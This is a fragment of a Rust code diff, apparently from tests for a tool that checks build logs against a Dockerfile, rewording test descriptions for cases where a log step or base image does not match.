+            "Steps of every kind that uses input from outside the commit: all inputs are listed, and unknown ones are marked.",
         )
         .log(|text| {
             let text = text.replace("RUN ./build.sh", "RUN --mount=type=bind,from=busybox:1,target=/b npm ci && sudo frobnicate && ./gradlew build");
@@ -723,13 +726,13 @@ fn dockerfile() -> Vec<Case> {
             text.replace("FROM debian:bookworm-slim", "FROM ${BASE}")
         })
         .expect("source-dockerfile", "fail"),
-        fails("dockerfile-other-step", "A step in the log is not the Dockerfile's.")
+        fails("dockerfile-other-step", "A step in the log is not in the Dockerfile.")
             .log(|text| text.replace("RUN ./build.sh", "RUN ./build.sh --fast")),
-        fails("dockerfile-other-base", "A base in the log is not the Dockerfile's.")
+        fails("dockerfile-other-base", "A base image in the log is not in the Dockerfile.")
             .log(|text| text.replace("FROM debian:bookworm-slim", "FROM debian:trixie-slim")),
-        fails("dockerfile-step-missing", "A step is missing in the log.")
+        fails("dockerfile-step-missing", "A step is missing from the log.")
             .log(|text| super::without(&text, &["Step 8/9"])),
-        fails("dockerfile-step-twice", "A step stands twice in the log.")
+        fails("dockerfile-step-twice", "A step is duplicated in the log.")
             .log(|text| super::insert_before(&text, "Step 8/9", "run: Step 7/9 : COPY web /srv/web")),
         policy(
             Case::fails("dockerfile-missing", "source-dockerfile", "The policy's Dockerfile is not in the commit."),
